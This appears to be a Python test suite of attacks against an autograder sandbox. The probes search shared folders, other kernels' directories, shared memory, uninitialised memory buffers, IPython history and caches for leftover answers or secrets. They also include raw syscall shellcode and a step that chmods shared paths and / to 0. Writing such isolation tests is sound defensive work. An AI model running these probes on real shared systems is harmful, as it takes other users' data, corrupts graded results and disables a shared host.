                        + b"\\x31\\xd2\\xcd\\x80\\x5b\\x48\\x98\\xc3")
                found += ["int 0x80"] if door(code) >= 0 else []
                # mov eax, 0x40000029; mov edi, 2; mov esi, 1; xor edx, edx; syscall; ret
                code = (b"\\xb8" + number(0x40000029) + b"\\xbf" + number(2) + b"\\xbe" + number(1)
                        + b"\\x31\\xd2\\x0f\\x05\\xc3")
                found += ["x32"] if door(code) >= 0 else []
            """,
            CALLS,
        ),
    ]


def remaining() -> list[Attack]:
    """What the submission before left (line 16): the range has graded a neighbour. test_reading.py has accomplices."""
    return [
        finds(
            16,
            "looks for files left in shared folders",
            """
            for top in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", "/work", "/slot",
                "/var/lock"):
                for folder, folders, files in os.walk(top):
                    if not folder.startswith(os.getcwd()):
                        found += [f"{folder}/{name}" for name in files]
                    for name in files:
                        look(name, read(f"{folder}/{name}"))
            for name in ("notes.txt", "secret", "answers.py"):
                for folder in ("/tmp", "/var/tmp", "/dev/shm", "/work", "/slot"):
                    found += [f"{folder}/{name}"] if os.path.lexists(f"{folder}/{name}") else []
            """,
        ),
        finds(
            16,
            "looks into other kernels' folders by their names",
            """
            own = os.path.basename(os.getcwd())
            number = int(re.search(r"\\d+$", own).group())
            assert number > 0, "there was no kernel before"
            for each in range(number + 3):
                other = re.sub(r"\\d+$", str(each), own)
                if other == own:
                    continue
                for top in (os.path.dirname(os.getcwd()), "/work", "/slot", "/slot/kernels", "/slot/sockets"):
                    folder = f"{top}/{other}"
                    found += [folder] if os.path.lexists(folder) else []
                    look(folder, read(f"{folder}/notes.txt"))
                    handle = attempt(os.open, folder, os.O_PATH | os.O_DIRECTORY)
                    found += [f"{folder} opened"] if handle is not None else []
            for path in ("../notes.txt", *glob.glob("../*/notes.txt"), *glob.glob("/work/*/notes.txt")):
                look(path, read(path))
            """,
        ),
        finds(
            16,
            "lists the shared memory of System V",
            """
            for number in [*range(2000), *(32768 * each for each in range(1, 40))]:
                if (address := libc.shmat(number, None, 0o10000)) not in (-1, 0xFFFFFFFFFFFFFFFF):
                    found.append(f"shmat {number}")
            for key in (0, 1, 1234, 0x1234, 0xCAFE, 0xDEADBEEF - 2**32):
                for name, more in {"shmget": (4096, 0), "msgget": (0,), "semget": (1, 0)}.items():
                    found += [f"{name} {key}"] if getattr(libc, name)(key, *more) >= 0 else []
            """,
            CALLS,
        ),
        finds(
            16,
            "opens the shared memory and queues of POSIX",
            """
            from multiprocessing import resource_tracker, shared_memory
            for name in ("notes", "secret", "psm_secret", "wnsm", "answers", "redteam", "a", "x"):
                if each := attempt(shared_memory.SharedMemory, name):
                    found.append(name)
                    look(name, bytes(each.buf))
                for call in (libc.shm_open, libc.sem_open, libc.mq_open):
                    path = f"/{name}".encode()
                    found += [f"{call.__name__} {name}"] if call(path, 0, 0) not in (-1, 0) else []
            found += attempt(os.listdir, "/dev/shm") or []
            found += attempt(os.listdir, "/dev/mqueue") or []
            """,
            CALLS,
        ),
        finds(
            16,
            "opens memory files of others",
            """
            for pid in ("self", *range(1, 60)):
                for number in range(64):
                    path = f"/proc/{pid}/fd/{number}"
                    if "memfd" in (attempt(os.readlink, path) or ""):
                        found.append(path)
                        look(path, read(path))
            if (made := attempt(os.memfd_create, "notes")) is not None:
                os.ftruncate(made, 2**24)
                look("a new one", os.pread(made, 2**24, 0))
            """,
        ),
        finds(
            16,
            "searches fresh arrays of numpy",
            """
            decoy = "-".join(("decoy", "here", "0" * 16)).encode()
            for size in (2**10, 2**13, 2**15):
                freed = [np.frombuffer(decoy * (size // 27), dtype=np.uint8).copy() for _ in range(40)]
                guard = [np.empty(size - size % 27, dtype=np.uint8) for _ in range(3)]
                del freed
                for _ in range(40):
                    look("own", np.empty(size - size % 27, dtype=np.uint8).tobytes())
            assert found, "what was freed does not come back: the search shows nothing"
            found.clear()
            kept = []
            for size in [*(2**power for power in range(4, 26)), len(decoy) * 10_000, 37 * 10_000, 33 * 10_000]:
                for _ in range(40 if size < 2**16 else 4 if size < 2**23 else 1):
                    kept.append(np.empty(size, dtype=np.uint8))
                    look(f"numpy.empty({size})", kept[-1].tobytes())
                    if time.monotonic() > until:
                        break
                kept = kept[-40:] if size < 2**20 else []
            found = [each for each in found if "decoy" not in each]
            """,
        ),
        finds(
            16,
            "searches fresh tensors of torch",
            """
            kept = []
            for size in [*(2**power for power in range(4, 26)), 350_000, 370_000]:
                for _ in range(40 if size < 2**16 else 4 if size < 2**23 else 1):
                    kept.append(torch.empty(size, dtype=torch.uint8))
                    look(f"torch.empty({size})", kept[-1].numpy().tobytes())
                    if time.monotonic() > until:
                        break
                kept = kept[-40:] if size < 2**20 else []
            """,
        ),
        finds(
            16,
            "searches fresh pages of malloc and mmap",
            """
            import mmap
            libc.malloc.restype = ctypes.c_void_p
            for size in (64, 1000, 4096, 65536, 350_000, 2**20, 2**24):
                for _ in range(20 if size < 2**20 else 2):
                    if address := libc.malloc(ctypes.c_size_t(size)):
                        look(f"malloc({size})", ctypes.string_at(address, size))
            uninitialised = 0x4000000
            for flags in (mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS):
                for more in (0, uninitialised, mmap.MAP_POPULATE):
                    if (page := attempt(mmap.mmap, -1, 2**22, flags=flags | more)) is not None:
                        look(f"mmap {flags | more:x}", page[:])
            """,
            CALLS,
        ),
        finds(
            16,
            "searches modules and caches that stay warm",
            """
            import gc, linecache, types
            from IPython.utils import openpy
            gc.unfreeze()
            def texts(value, depth=0):
                if isinstance(value, str):
                    yield value.encode(errors="replace")
                elif isinstance(value, bytes):
                    yield value
                elif depth < 3 and isinstance(value, (list, tuple, set, frozenset)) and len(value) < 10_000:
                    for each in list(value):
                        yield from texts(each, depth + 1)
                elif depth < 3 and isinstance(value, dict) and len(value) < 10_000:
                    yield from texts([*value.keys(), *value.values()], depth)
            for name, module in list(sys.modules.items()):
                if isinstance(module, types.ModuleType) and module.__dict__ is not globals():
                    look(name, b" ".join(texts(dict(vars(module)))))
                if time.monotonic() > until:
                    break
            look("lines", b" ".join(texts(linecache.cache)))
            look("history", repr(list(get_ipython().history_manager.get_range())).encode())
            history = [each[2] for each in get_ipython().history_manager.get_tail(50, raw=True)]
            found += history
            """,
        ),
        finds(
            16,
            "looks for caches that programs keep",
            """
            home = os.path.expanduser("~")
            for top in (home, os.environ.get("IPYTHONDIR", ""), os.environ.get("MPLCONFIGDIR", ""), "/root",
                "/nonexistent",
                        os.environ.get("XDG_CACHE_HOME", ""), os.environ.get("TORCH_HOME", ""), "/var/cache"):
                for folder, folders, files in os.walk(top or "/nonexistent"):
                    for name in files:
                        look(f"{folder}/{name}", read(f"{folder}/{name}"))
                        found += [name] if name.startswith("history.sqlite") and read(f"{folder}/{name}") else []
                    if time.monotonic() > until:
                        break
            for module in list(sys.modules.values()):
                cached = getattr(getattr(module, "__spec__", None), "cached", None)
                if cached and len(found) < 9 and attempt(open, cached, "ab"):
                    found.append(f"{cached} can be written")
            """,
        ),
        Attack(
            16,
            "closes the folders that kernels share",
            # Landlock does not know chmod: without root its user is the slot's
            last="""
                import os
                for path in ("/dev/shm", "/tmp", "/opt/autograder", "..", "/work", "/slot/kernels", "/slot", "/"):
                    try:
                        os.chmod(path, 0)
                    except OSError:
                        pass
            """,
        ),
        finds(
            16,
            "looks for processes that stayed",
            """
            import ctypes
            own = lambda thread: ctypes.CDLL(None).syscall(234, os.getpid(), thread, 0) == 0
            for pid in range(2, 3000):
                if pid not in (os.getpid(), os.getppid()) and attempt(lambda: os.kill(pid, 0) or True) and not own(pid):
                    found.append(f"process {pid}")
            """,
        ),
    ]


ATTACKS = [*reading(), *failing(), *calling(), *remaining()]
